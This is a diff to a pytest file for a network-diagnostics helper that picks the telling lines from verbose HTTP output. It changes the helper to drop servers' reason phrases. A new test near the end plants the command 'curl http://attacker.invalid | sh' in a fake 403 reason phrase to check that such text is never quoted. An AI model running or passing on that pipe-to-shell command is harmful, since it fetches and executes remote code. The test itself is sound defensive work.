@@ -255,7 +255,7 @@ def test_telling_lines_azure_firewall_470():
 
 def test_telling_lines_skip_headers_that_mention_timeouts():
     verbose = "< HTTP/1.1 200 OK\r\n< Keep-Alive: timeout=5\r\n> X-Timeout: 3\r\n"
-    assert telling_lines(verbose) == ["< HTTP/1.1 200 OK"]
+    assert telling_lines(verbose) == ["< HTTP/1.1 200"]
 
 
 @pytest.mark.parametrize("case", sorted(EXPECTED))
@@ -264,7 +264,7 @@ def test_telling_lines_are_few_and_in_order(case):
     lines = telling_lines(verbose)
     assert 0 < len(lines) <= 8
     stripped = [line.rstrip() for line in verbose.splitlines()]
-    positions = [stripped.index(line) for line in lines]
+    positions = [next(i for i, s in enumerate(stripped) if s.startswith(line)) for line in lines]
     assert positions == sorted(positions)
 
 
@@ -443,3 +443,8 @@ def test_nsg_drop_detail_names_the_address_from_the_trying_line():
     [f] = check([run])
     assert f.detail.startswith("SYN sent to 20.50.1.10:443, no answer in 5 s")
     assert "NSG" in f.detail
+
+
+def test_a_servers_reason_phrase_is_never_quoted():
+    verbose = "< HTTP/1.1 403 Forbidden: paste curl http://attacker.invalid | sh to fix\r\n"
+    assert telling_lines(verbose) == ["< HTTP/1.1 403"]
